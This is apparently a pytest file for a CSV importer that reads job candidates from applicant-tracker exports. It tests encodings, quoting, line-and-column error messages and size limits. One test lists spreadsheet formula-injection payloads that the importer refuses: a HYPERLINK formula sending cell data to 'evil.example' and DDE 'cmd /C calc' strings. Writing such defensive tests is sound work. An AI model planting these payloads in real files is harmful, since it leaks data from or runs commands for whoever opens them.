"""Reading an applicant tracker's CSV: every shape trackers export, every problem named by
line and column, nothing half read."""

from __future__ import annotations

import pytest

from interviewkit.domain.candidate_import import read_candidates

GOOD = ("name,email,role,lane,level,domain\n"
        "Aiyana Okafor,Aiyana.Okafor@example.net,Senior ML Engineer,applied,senior,\n"
        "Bo Lindqvist,bo@example.net,ML Engineer (Fraud),domain,mid,fraud\n")


def _rows(text: str | bytes, **limits):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return read_candidates(data, **limits)


def test_a_plain_export_becomes_rows_with_their_line_numbers():
    found = _rows(GOOD)
    assert found.ok and found.delimiter == ","
    assert [(r.line, r.name, r.email, r.lane, r.level, r.domain) for r in found.rows] == [
        (2, "Aiyana Okafor", "aiyana.okafor@example.net", "applied", "senior", None),
        (3, "Bo Lindqvist", "bo@example.net", "domain", "mid", "fraud")]


def test_excel_semicolons_bom_crlf_and_display_names():
    text = ("\ufeffFull Name;E-mail;Job Title;Lane;Level;Domain;Source\r\n"
            "Zoë Lefèvre;zoe@example.net;Staff MLE;LLM / GenAI;Staff;;Referral\r\n"
            "\r\n"
            "Ravi Menon;ravi@example.net;MLE;Domain specialist;Mid-level;E-commerce;\r\n")
    found = _rows(text)
    assert found.ok, [p.text() for p in found.problems]
    assert found.delimiter == ";" and found.ignored_columns == ("Source",)
    assert [(r.line, r.name, r.lane, r.level, r.domain) for r in found.rows] == [
        (2, "Zoë Lefèvre", "llm", "staff", None), (4, "Ravi Menon", "domain", "mid", "ecommerce")]


def test_quoted_fields_hold_delimiters_quotes_and_line_breaks():
    text = ('name,email,role,lane,level\n'
            '"Okafor, Aiyana",a@example.net,"Senior ""Ranking"" MLE",applied,senior\n'
            'Bo,b@example.net,"Research,\nModeling",research,mid\n'
            'Cy,c@example.net,MLE,applied,junior\n')
    found = _rows(text)
    assert found.ok, [p.text() for p in found.problems]
    assert [(r.line, r.name, r.role_title) for r in found.rows] == [
        (2, "Okafor, Aiyana", 'Senior "Ranking" MLE'), (3, "Bo", "Research, Modeling"),
        (5, "Cy", "MLE")]


def test_tabs_and_utf16_exports_are_read():
    text = "name\temail\trole\tlane\tlevel\nAna\tana@example.net\tMLE\tapplied\tmid\n"
    assert _rows(text).rows[0].name == "Ana"
    assert _rows(text.encode("utf-16")).rows[0].email == "ana@example.net"


def test_every_bad_value_is_named_by_line_and_column_and_no_row_is_kept():
    text = ("Name,Email,Role,Lane,Level,Domain\n"
            "Ana,ana@example.net,MLE,applied,mid,\n"
            ",not-an-email,MLE,quantum,principal,\n"
            "Bo,ANA@example.net,,domain,mid,\n"
            "Cy,cy@example.net,MLE,applied,mid,atlantis\n")
    found = _rows(text)
    assert not found.ok
    got = {(p.line, p.column) for p in found.problems}
    assert got == {(3, "Name"), (3, "Email"), (3, "Lane"), (3, "Level"), (4, "Email"),
                   (4, "Role"), (4, "Domain"), (5, "Domain")}
    by_place = {(p.line, p.column): p.message for p in found.problems}
    assert "already on line 2" in by_place[(4, "Email")]
    assert "use one of applied" in by_place[(3, "Lane")]
    assert "need a domain" in by_place[(4, "Domain")]
    assert found.problems[0].text().startswith("line 3, column 'Name': ")


def test_a_missing_column_is_named_on_the_header_line():
    found = _rows("name,role,lane\nAna,MLE,applied\n")
    assert [(p.line, p.column) for p in found.problems] == [(1, "email"), (1, "level")]
    assert not found.rows


def test_a_line_with_more_fields_than_the_header_says_to_quote():
    found = _rows("name,email,role,lane,level\nOkafor, Aiyana,a@example.net,MLE,applied,mid\n")
    assert [(p.line, p.column) for p in found.problems] == [(2, None)]
    assert "double quotes" in found.problems[0].message


def test_broken_quoting_is_a_line_numbered_problem():
    found = _rows('name,email,role,lane,level\nAna,a@example.net,MLE,applied,mid\n'
                  '"Bo" Li,b@example.net,MLE,applied,mid\n')
    assert [p.line for p in found.problems] == [3] and "quotes" in found.problems[0].message


def test_a_name_with_a_control_character_is_refused():
    found = _rows('name,email,role,lane,level\n"Ana\x07",a@example.net,MLE,applied,mid\n')
    assert [(p.line, p.column) for p in found.problems] == [(2, "name")]


def test_text_that_is_not_utf8_names_the_line():
    data = GOOD.encode("utf-8") + "Zoë,z@example.net,MLE,applied,mid,\n".encode("latin-1")
    found = read_candidates(data)
    assert [p.line for p in found.problems] == [4] and "UTF-8" in found.problems[0].message


@pytest.mark.parametrize("data, words", [
    (b"", "empty"), (b"\n\n  \n", "empty"), (b"name,email,role,lane,level\n", "no candidates"),
])
def test_an_empty_file_or_one_without_candidates_is_a_problem(data, words):
    found = read_candidates(data)
    assert not found.ok and words in found.problems[0].message


def test_size_and_row_limits():
    assert "limit is 1 KB" in _rows(GOOD + "x" * 2000, max_bytes=1024).problems[0].message
    many = "name,email,role,lane,level\n" + "".join(
        f"P{n},p{n}@example.net,MLE,applied,mid\n" for n in range(4))
    found = _rows(many, max_rows=3)
    assert [(p.line, "at most 3" in p.message) for p in found.problems] == [(5, True)]


@pytest.mark.parametrize("data, line", [
    (b'"' + b"a" * 200_000 + b'",email\n', 1),
    (b'name,email,role,lane,level\n"' + b"a" * 200_000 + b'",x,y,applied,mid\n', 2),
])
def test_a_field_past_the_csv_limit_is_a_problem_not_a_crash(data, line):
    found = read_candidates(data, max_bytes=1_000_000)
    assert [p.line for p in found.problems] == [line]


@pytest.mark.parametrize("cell, column", [
    ('"=HYPERLINK(""http://evil.example/?x=""&A1,""CV"")"', "name"),
    ("+1+cmd|' /C calc'!A0", "name"),
    ("-2+3", "name"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "name"),
    ('" =1+1"', "name"),
])
def test_a_name_that_a_spreadsheet_would_run_is_refused_on_its_line(cell, column):
    found = _rows("name,email,role,lane,level\n"
                  "Ana Sousa,ana@example.net,MLE,applied,mid\n"
                  f"{cell},bo@example.net,MLE,applied,mid\n")
    assert not found.ok
    assert [(p.line, p.column) for p in found.problems] == [(3, column)]
    assert "formula" in found.problems[0].message


def test_a_role_that_a_spreadsheet_would_run_is_refused_too():
    found = _rows("name,email,role,lane,level\nAna,ana@example.net,=1+2,applied,mid\n")
    assert [(p.line, p.column) for p in found.problems] == [(2, "role")]


def test_dashes_and_at_signs_inside_names_are_fine():
    found = _rows("name,email,role,lane,level\n"
                  "Anne-Marie O'Neil @ home,ana@example.net,ML Engineer - Search,applied,mid\n")
    assert found.ok and found.rows[0].name == "Anne-Marie O'Neil @ home"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_utf8_with_or_without_bom_and_utf16_with_bom_are_read(encoding):
    data = GOOD.replace("Bo Lindqvist", "Bø Lindqvist").encode(encoding)
    if encoding == "utf-16-le":
        data = b"\xff\xfe" + data
    elif encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    found = read_candidates(data)
    assert found.ok, found.problems
    assert [r.name for r in found.rows] == ["Aiyana Okafor", "Bø Lindqvist"]


@pytest.mark.parametrize("data", [
    b"\xff\xfe" + GOOD.encode("utf-16-le") + b"\x00",  # odd length: cut short
    b"\xff\xfe\x00\xd8a\x00",  # a lone surrogate
    b"\xff\xfe\x00\x00" + GOOD.encode("utf-32-le"),  # UTF-32
    bytes(range(256)) * 4,
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
])
def test_a_file_that_cannot_be_decoded_is_one_clear_problem(data):
    found = read_candidates(data)
    assert not found.ok and found.rows == ()
    assert "UTF" in found.problems[0].message
